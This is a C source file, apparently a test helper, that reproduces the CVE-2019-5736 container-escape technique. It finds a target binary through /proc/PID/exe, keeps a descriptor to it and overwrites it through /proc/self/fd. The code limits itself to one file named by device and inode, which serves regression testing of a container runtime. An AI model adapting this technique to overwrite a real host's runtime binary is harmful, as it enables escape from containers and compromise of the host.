/* SPDX-License-Identifier: Apache-2.0 */
/*
 * overwrite-exe: overwrite the program that another process runs (CVE-2019-5736)
 *
 *   overwrite-exe MILLISECONDS DEVICE:INODE
 *
 * Only the file with these numbers (stat -c %d:%i) is ever opened for writing, so that nothing
 * but a test's own copy can be harmed, inside or outside.  It is looked for as /proc/PID/exe
 * of every process; a descriptor keeps it reachable after the process, when it is no longer
 * busy.  Prints "seen N target seen|hidden kept|overwritten".
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

struct search {
	unsigned long device, inode;
	unsigned int seen; /* programs of others, each time they are met */
	int target_fd;
	bool overwritten;
};

static uint64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static bool is_target(const struct search *s, int fd)
{
	struct stat st;

	return fstat(fd, &st) == 0 && st.st_dev == s->device && st.st_ino == s->inode;
}

static void look_at(struct search *s, const char *pid)
{
	char path[300];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	s->seen++;
	if (s->target_fd < 0 && is_target(s, fd))
		s->target_fd = fd;
	else
		close(fd);
}

static void look_around(struct search *s)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc && (entry = readdir(proc)))
		if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
			look_at(s, entry->d_name);
	if (proc)
		closedir(proc);
}

static void overwrite(struct search *s)
{
	static const char text[] = "overwritten\n";
	char path[64];
	int fd;

	if (s->target_fd < 0 || s->overwritten)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", s->target_fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	s->overwritten = is_target(s, fd) && write(fd, text, sizeof(text) - 1) > 0;
	close(fd);
}

int main(int argc, char **argv)
{
	struct search s = { .target_fd = -1 };
	unsigned long ms;
	uint64_t end;

	if (argc != 3 || sscanf(argv[1], "%lu", &ms) != 1 ||
	    sscanf(argv[2], "%lu:%lu", &s.device, &s.inode) != 2) {
		fprintf(stderr, "usage: overwrite-exe MILLISECONDS DEVICE:INODE\n");
		return 2;
	}
	end = now_ms() + ms;
	do { /* once at least, however late it is */
		look_around(&s);
		overwrite(&s);
	} while (now_ms() < end && !s.overwritten);
	printf("seen %u target %s %s\n", s.seen, s.target_fd < 0 ? "hidden" : "seen",
	       s.overwritten ? "overwritten" : "kept");
	return fflush(stdout) == 0 ? 0 : 1;
}
